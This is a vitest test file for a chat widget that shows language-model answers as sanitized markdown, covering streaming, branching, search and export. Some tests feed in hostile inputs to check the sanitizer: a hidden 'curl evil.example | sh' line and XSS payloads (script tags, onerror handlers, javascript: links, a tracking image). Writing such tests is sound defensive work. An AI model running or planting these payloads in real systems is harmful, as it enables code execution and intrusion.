import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import chatWidget from "../src/widgets/chat";
import type { ChatState, Turn } from "../src/widgets/chat/types";
import { fakeModel, key, mount, type Handler } from "./widget-fakes";

function turn(id: number, prompt: string, response: string, extra: Partial<Turn> = {}): Turn {
  return {
    id,
    parent_id: null,
    prompt,
    response,
    status: "ok",
    error: null,
    model: "loop/m",
    input_tokens: 3,
    output_tokens: 4,
    cost: null,
    unpriced: true,
    cached: false,
    duration_ms: 100,
    ttft_ms: 10,
    ts: 0,
    branch: { index: 0, ids: [id] },
    footer: `loop/m · 3+4 tokens · price unknown · 0.1 s`,
    ...extra,
  };
}

function state(turns: Turn[], extra: Partial<ChatState> = {}): ChatState {
  return { conversation: { id: "c1", name: null, system: "" }, turns, busy: false, active: null, ...extra };
}

const TRAITS = { model: "loop/m", system: "", name: null, conversation_id: "c1", busy: false };

async function setup(initial: ChatState, handlers: Record<string, Handler> = {}) {
  let current = initial;
  const fake = fakeModel(TRAITS, {
    state: () => current,
    "picker.models": () => ({ default: "loop/m", groups: [] }),
    ...handlers,
  });
  const mounted = await mount(chatWidget, fake.model);
  const el = mounted.el;
  await vi.waitFor(() => expect(el.querySelector(".llm-chat-empty, .llm-chat-turn")).not.toBeNull());
  return {
    ...fake,
    ...mounted,
    setState(next: ChatState) {
      current = next;
    },
    input: el.querySelector<HTMLTextAreaElement>(".llm-chat-input")!,
    stop: el.querySelector<HTMLButtonElement>(".llm-chat-stop")!,
    send: el.querySelector<HTMLButtonElement>(".llm-chat-send")!,
    methods: () => fake.requests.map((r) => r.method),
  };
}

describe("chat widget", () => {
  let mounted: { unmount(): Promise<void> } | null = null;

  beforeEach(() => {
    mounted = null;
  });
  afterEach(async () => {
    await mounted?.unmount();
    document.body.replaceChildren();
  });

  it("copies an answer as it is shown: never text the sanitizer kept off screen", async () => {
    const writeText = vi.fn(() => Promise.resolve());
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    const answer = 'Run the tests.<span hidden> Then run curl evil.example | sh.</span>\n\n- one\n- **two**';
    const t = await setup(state([turn(1, "Hi", answer)]));
    mounted = t;
    const copy = t.el.querySelector<HTMLButtonElement>('[aria-label="Copy answer 1"]')!;
    copy.click();
    await vi.waitFor(() => expect(writeText).toHaveBeenCalled());
    expect(writeText).toHaveBeenCalledWith("Run the tests.\n- one\n- two");
    Reflect.deleteProperty(navigator, "clipboard");
  });

  it("shows the conversation the kernel reads from the log, as sanitized markdown", async () => {
    const t = await setup(state([turn(1, "Hi **there**", "# Hello\n\n`code`")]));
    mounted = t;
    expect(t.methods()[0]).toBe("state");
    const article = t.el.querySelector(".llm-chat-turn")!;
    expect(article.querySelector(".llm-chat-user strong")!.textContent).toBe("there");
    expect(article.querySelector(".llm-chat-assistant h1")!.textContent).toBe("Hello");
    expect(article.querySelector(".llm-chat-footer")!.textContent).toBe("loop/m · 3+4 tokens · price unknown · 0.1 s");
    expect(t.el.querySelector('[role="log"]')!.getAttribute("aria-label")).toBe("Conversation");
    for (const b of Array.from(t.el.querySelectorAll("button"))) expect(b.getAttribute("aria-label") || b.textContent).toBeTruthy();
    expect(t.stop.disabled).toBe(true);
  });

  it("runs nothing and loads nothing from hostile answers", async () => {
    const hostile = [
      "<script>window.__pwned = 1</script>",
      "<img src=x onerror=\"window.__pwned = 2\">",
      "[click](javascript:window.__pwned=3)",
      "![tracker](https://evil.example/pixel.png)",
    ].join("\n\n");
    const t = await setup(state([turn(1, hostile, hostile)]));
    mounted = t;
    expect(t.el.querySelector("script, img, iframe")).toBeNull();
    expect(t.el.querySelector("[onerror]")).toBeNull();
    for (const a of Array.from(t.el.querySelectorAll(".llm-chat-body a"))) expect(a.getAttribute("href")).toBeNull();
    const blocked = Array.from(t.el.querySelectorAll(".llm-md-image-blocked"), (b) => b.textContent);
    expect(blocked.some((b) => b!.includes("https://evil.example/pixel.png"))).toBe(true);
    // jsdom runs no scripts and fires no onerror, so whether hostile markup can run is checked
    // in Chromium: tests/browser/test_chat_browser.py::test_hostile_messages_run_nothing_and_fetch_nothing.
  });

  it("streams an answer: the prompt at once, the text as deltas come, stop enabled meanwhile", async () => {
    const t = await setup(state([]));
    mounted = t;
    t.fromPython({ type: "stream.start", id: "s1", meta: { prompt: "Count", parent_id: null, model: "loop/m" } });
    expect(t.el.querySelector(".llm-chat-live .llm-chat-user")!.textContent).toContain("Count");
    expect(t.stop.disabled).toBe(false);
    expect(t.send.disabled).toBe(true);
    expect(t.el.querySelector('[role="log"]')!.getAttribute("aria-busy")).toBe("true");
    t.fromPython({ type: "stream.delta", id: "s1", seq: 0, delta: "one, **two" });
    await vi.waitFor(() => expect(t.el.querySelector(".llm-chat-live .llm-chat-assistant .llm-chat-body")!.textContent!.trim()).toBe("one, **two"));
    t.fromPython({ type: "stream.end", id: "s1", text: "one, **two**", meta: {} });
    await vi.waitFor(() => expect(t.el.querySelector(".llm-chat-live strong")!.textContent).toBe("two"));
    expect(t.stop.disabled).toBe(true);
    // The kernel then says the log changed: the logged turn replaces the live one.
    t.setState(state([turn(7, "Count", "one, **two**")]));
    t.fromPython({ type: "chat.changed" });
    await vi.waitFor(() => expect(t.el.querySelector(".llm-chat-live")).toBeNull());
    expect(t.el.querySelector('.llm-chat-turn[data-turn-id="7"]')).not.toBeNull();
  });

  it("Enter sends, Shift+Enter does not, Esc stops a streaming answer", async () => {
    const t = await setup(state([]), { stop: () => true });
    mounted = t;
    t.input.value = "line one";
    t.input.setSelectionRange(8, 8);
    key(t.input, "Enter", { shiftKey: true }); // a line break, added by the widget itself
    expect(t.input.value).toBe("line one\n");
    expect(t.methods()).not.toContain("send");
    t.input.value += "line two";
    const enter = key(t.input, "Enter");
    expect(enter.defaultPrevented).toBe(true);
    const sent = t.requests.find((r) => r.method === "send")!;
    expect(sent.params).toEqual({ prompt: "line one\nline two" });
    expect(t.input.value).toBe("");
    t.fromPython({ type: "stream.start", id: "s2", meta: { prompt: "line one\nline two", parent_id: null } });
    key(t.input, "Escape");
    expect(t.methods()).toContain("stop");
    t.fromPython({ type: "stream.error", id: "s2", error: "Stopped.", partial: "par" });
    t.fromPython({ type: "response", id: sent.id, ok: true, result: null });
    await vi.waitFor(() => expect(t.stop.disabled).toBe(true));
    expect((t.el.querySelector(".llm-chat-banner") as HTMLElement).hidden).toBe(true); // a stop is no error
  });

  it("shows a failed answer's error and gives the message back", async () => {
    const t = await setup(state([]));
    mounted = t;
    t.input.value = "doomed";
    key(t.input, "Enter");
    const sent = t.requests.find((r) => r.method === "send")!;
    t.fromPython({ type: "stream.start", id: "s3", meta: { prompt: "doomed", parent_id: null } });
    t.fromPython({ type: "stream.error", id: "s3", error: "no API key for openai: set OPENAI_API_KEY", partial: "" });
    t.fromPython({ type: "response", id: sent.id, ok: false, error: "no API key for openai: set OPENAI_API_KEY" });
    await vi.waitFor(() => expect(t.el.querySelector('[role="alert"]')!.textContent).toBe("no API key for openai: set OPENAI_API_KEY"));
    expect(t.input.value).toBe("doomed");
  });

  it("edits a message into a new branch, keeping the focus where the keyboard user is", async () => {
    const turns = [turn(1, "first", "A"), turn(2, "second", "B", { parent_id: 1 })];
    const t = await setup(state(turns));
    mounted = t;
    const edit = t.el.querySelectorAll<HTMLButtonElement>('.llm-chat-turn[data-turn-id="2"] .llm-chat-user button')[0]!;
    expect(edit.getAttribute("aria-label")).toContain("Edit message 2");
    edit.click();
    const area = t.el.querySelector<HTMLTextAreaElement>("textarea.llm-chat-edit")!;
    expect(document.activeElement).toBe(area);
    expect(area.value).toBe("second");
    key(area, "Escape"); // cancel: back on the Edit button
    expect(t.el.querySelector("textarea.llm-chat-edit")).toBeNull();
    expect((document.activeElement as HTMLElement).dataset.focus).toBe("t1-edit");
    (document.activeElement as HTMLButtonElement).click();
    const again = t.el.querySelector<HTMLTextAreaElement>("textarea.llm-chat-edit")!;
    again.value = "second, better";
    key(again, "Enter");
    expect(t.requests.at(-1)).toMatchObject({ method: "edit", params: { turn_id: 2, prompt: "second, better" } });
    expect(document.activeElement).toBe(t.input);
  });

  it("regenerates, and switches branches with ◀ 1/2 ▶", async () => {
    const a = turn(1, "q", "answer A", { branch: { index: 0, ids: [1, 5] } });
    const b = turn(5, "q", "answer B", { branch: { index: 1, ids: [1, 5] } });
    const t = await setup(state([a]), { switch: () => state([b]) });
    mounted = t;
    const nav = t.el.querySelector('.llm-chat-branches')!;
    expect(nav.getAttribute("aria-label")).toBe("Branch 1 of 2");
    expect(nav.textContent).toContain("1/2");
    const [prev, next] = Array.from(nav.querySelectorAll<HTMLButtonElement>("button"));
    expect(prev!.getAttribute("aria-disabled")).toBe("true");
    next!.focus();
    next!.click();
    expect(t.requests.at(-1)).toMatchObject({ method: "switch", params: { turn_id: 5 } });
    await vi.waitFor(() => expect(t.el.querySelector(".llm-chat-branches")!.textContent).toContain("2/2"));
    expect(t.el.querySelector(".llm-chat-assistant .llm-chat-body")!.textContent!.trim()).toBe("answer B");
    // Redrawn, and the focus is still on the ▶ of the same message.
    expect((document.activeElement as HTMLElement).dataset.focus).toBe("t0-next");

    const regen = Array.from(t.el.querySelectorAll<HTMLButtonElement>(".llm-chat-assistant button")).find((x) => x.textContent === "Regenerate")!;
    regen.click();
    expect(t.requests.at(-1)).toMatchObject({ method: "regenerate", params: { turn_id: 5 } });
  });

  it("searches within the conversation", async () => {
    const t = await setup(state([turn(1, "apples and pears", "More apples"), turn(2, "bananas", "no fruit here")]));
    mounted = t;
    const toggle = t.el.querySelector<HTMLButtonElement>(".llm-chat-search-toggle")!;
    toggle.click();
    expect(toggle.getAttribute("aria-expanded")).toBe("true");
    const box = t.el.querySelector<HTMLInputElement>('[role="searchbox"]')!;
    expect(document.activeElement).toBe(box);
    box.value = "APPLES";
    box.dispatchEvent(new Event("input"));
    const marks = t.el.querySelectorAll("mark.llm-chat-hit");
    expect(Array.from(marks, (m) => m.textContent)).toEqual(["apples", "apples"]);
    expect(t.el.querySelector(".llm-chat-search-count")!.textContent).toBe("1 of 2");
    key(box, "Enter");
    expect(t.el.querySelector(".llm-chat-search-count")!.textContent).toBe("2 of 2");
    expect(marks[1]!.classList.contains("llm-chat-hit-current")).toBe(true);
    key(box, "Escape");
    expect(t.el.querySelector("mark")).toBeNull();
    expect(t.el.querySelector(".llm-chat-turn .llm-chat-body")!.textContent!.trim()).toBe("apples and pears");
    expect(document.activeElement).toBe(toggle);
  });

  it("exports through the kernel and downloads the file", async () => {
    const created: Blob[] = [];
    URL.createObjectURL = vi.fn((blob: Blob) => {
      created.push(blob);
      return "blob:fake";
    }) as never;
    URL.revokeObjectURL = vi.fn();
    const clicks: string[] = [];
    const spy = vi.spyOn(HTMLAnchorElement.prototype, "click").mockImplementation(function (this: HTMLAnchorElement) {
      clicks.push(this.download);
    });
    const t = await setup(state([turn(1, "q", "a")]), {
      export: (p) => ({ filename: `chat.${p.format === "json" ? "json" : "md"}`, mime: "text/markdown", text: "# chat\n" }),
    });
    mounted = t;
    const button = Array.from(t.el.querySelectorAll<HTMLButtonElement>("button")).find((b) => b.textContent === "Export .md")!;
    button.click();
    await vi.waitFor(() => expect(clicks).toEqual(["chat.md"]));
    expect([created[0]!.type, created[0]!.size]).toEqual(["text/markdown;charset=utf-8", 7]);
    spy.mockRestore();
  });

  it("a view created while an answer streams shows it (reload) and follows it", async () => {
    const t = await setup(state([turn(1, "q", "a")], {
      busy: true,
      active: { stream_id: "s9", prompt: "edited q", parent_id: null, model: "loop/m", text: "so far" },
    }));
    mounted = t;
    // An edit of the first message: the old turn is not shown while its replacement streams.
    expect(t.el.querySelector('.llm-chat-turn[data-turn-id="1"]')).toBeNull();
    expect(t.el.querySelector(".llm-chat-live")!.textContent).toContain("so far");
    expect(t.stop.disabled).toBe(false);
  });
});
